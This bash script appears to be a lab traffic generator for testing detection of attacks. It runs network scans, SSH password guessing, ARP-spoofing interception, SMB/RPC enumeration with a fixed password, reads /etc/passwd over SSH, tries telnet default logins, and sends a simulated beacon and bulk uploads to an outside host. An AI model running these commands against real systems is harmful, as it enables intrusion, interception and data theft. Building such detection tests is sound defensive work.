# attack.sh KIND SECONDS WORD...: traffic as an attack makes it, for tests of detection. Only ordinary programs, only
# the lab's own hosts, only for SECONDS. The driver ends it when it does not end by itself.
kind=$1 end=$((SECONDS + $2))
shift 2

# Nothing but the lab's two networks, whoever calls this.
for word in "$@"; do
  if [[ $word =~ ^[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+ && ! $word =~ ^10\.7[78]\. ]]; then
    echo "not an address of the lab: $word" >&2
    exit 2
  fi
done

left() { [ "$SECONDS" -lt "$end" ]; }
# within SECONDS COMMAND...: at most that long, and not beyond the end.
within() {
  local most=$1
  shift
  if [ "$most" -gt $((end - SECONDS)) ]; then most=$((end - SECONDS)); fi
  if [ "$most" -lt 1 ]; then return; fi
  timeout -k 1 "$most" "$@" > /dev/null 2>&1 < /dev/null
}
scan() { within 60 nmap -n --max-retries 1 "$@"; }
PORTS=21,22,23,25,53,80,88,110,111,135,139,143,161,389,443,445,465,515,587,631,636,873,993,995,2049,3268,3306,3389,5000,5432,5901,8080,8081,8443,8888,9090,9100,9418

# password_guesses HOST...: wrong passwords for several names.
password_guesses() {
  local host user
  for host in "$@"; do
    for user in root admin test oracle backup git; do
      if ! left; then return; fi
      within 4 sshpass -p "guess$RANDOM" ssh -o PreferredAuthentications=password -o PubkeyAuthentication=no \
        -o NumberOfPasswordPrompts=1 -o ConnectTimeout=3 -o StrictHostKeyChecking=no \
        -o UserKnownHostsFile=/dev/null "$user@$host" true
    done
  done
}

# spoof GATEWAY VICTIM: both believe that this host is the other; what they say is passed on, so that nobody notices.
spoof() {
  echo 1 > /proc/sys/net/ipv4/ip_forward
  echo 0 > /proc/sys/net/ipv4/conf/all/send_redirects
  echo 0 > /proc/sys/net/ipv4/conf/eth0/send_redirects
  within 120 arpspoof -i eth0 -t "$2" "$1" &
  within 120 arpspoof -i eth0 -t "$1" "$2" &
  wait
}

# remote_services HOST...: what is there over SMB and RPC, and a file laid down.
remote_services() {
  local host name
  for host in "$@"; do
    within 6 rpcclient "$host" --use-kerberos=off -U 'office%office-Word1' -c 'srvinfo;netshareenum;netsessenum;lsaquery;enumdomusers'
    name=update$RANDOM.bin
    head -c $((20000 + RANDOM * 4)) /dev/urandom > "/tmp/$name"
    within 6 smbclient "//$host/office" --use-kerberos=off -U 'office%office-Word1' -c "lcd /tmp; put $name; ls; get note-1.txt $name.txt; del $name"
    within 6 net rpc service list -S "$host" --use-kerberos=off -U 'office%office-Word1'
    within 6 net rpc share list -S "$host" --use-kerberos=off -U 'office%office-Word1'
    rm -f "/tmp/$name"*
    sleep 0.$((RANDOM % 10))
  done
}

# remote_shells HOST...: commands and files over ssh.
remote_shells() {
  local host
  for host in "$@"; do
    within 5 ssh -n -o BatchMode=yes -o ConnectTimeout=3 "root@$host" 'id; ps ax; ip addr; cat /etc/passwd; ls -lR /srv'
    within 5 scp -q -o BatchMode=yes -o ConnectTimeout=3 "root@$host:/etc/services" "/tmp/taken-$host"
    within 5 scp -q -o BatchMode=yes -o ConnectTimeout=3 /lab/documents/note-1.txt "root@$host:/tmp/left"
    sleep 0.$((RANDOM % 10))
  done
}

# telnet_tries HOST...: a connection, two lines, the next one.
telnet_tries() {
  local host port
  for host in "$@"; do
    for port in 23 2323; do
      if ! left; then return; fi
      within 2 bash -c 'printf "root\r\nvizxv\r\n" | telnet "$0" "$1"' "$host" "$port"
    done
  done
}

# upload NAME KILOBYTES: much data to one place outside, a megabyte a connection.
upload() {
  head -c "$2"000 /dev/urandom > /tmp/taken
  within 20 curl -sSk -o /dev/null -T /tmp/taken "https://$1/upload"
}

case $kind in
  sweep) while left; do scan -sn --max-rate 60 "$@"; done ;;
  syn-scan) while left; do scan -sS -Pn --top-ports 400 --max-rate 120 "$@"; done ;;
  connect-scan) while left; do scan -sT -Pn -sV --version-light --max-rate 60 -p "$PORTS" "$@"; done ;;
  udp-scan) while left; do scan -sU -Pn --top-ports 60 --max-rate 40 "$@"; done ;;
  odd-flags-scan) while left; do scan "$(shuf -n 1 -e -- -sX -sF -sN)" -Pn --max-rate 80 -p "$PORTS" "$@"; done ;;
  slow-scan) while left; do scan -sS -Pn --scan-delay 400ms -p "$PORTS" "$@"; done ;;
  ssh-guessing) while left; do password_guesses "$@"; done ;;
  arp-spoofing) spoof "$@" ;;
  remote-services) while left; do remote_services "$@"; done ;;
  remote-shells) while left; do remote_shells "$@"; done ;;
  telnet-tries) while left; do telnet_tries "$@"; done ;;
  beacon) # NAME PERIOD: as regular as a clock, a tenth more or less
    while left; do
      within 5 curl -sSk -o /dev/null -H 'User-Agent: sync' -d "id=$(hostname)&n=$RANDOM" "https://$1/form"
      sleep "$(awk -v period="$2" -v draw="$RANDOM" 'BEGIN { print period * (0.9 + 0.2 * draw / 32767) }')"
    done
    ;;
  dns-tunnel) within 120 python3 /lab/hosts/attack-dns.py client "$@" ;;
  bulk-upload) while left; do upload "$@"; sleep 0.$((RANDOM % 10)); done ;;
  *)
    echo "no such kind: $kind" >&2
    exit 2
    ;;
esac
exit 0
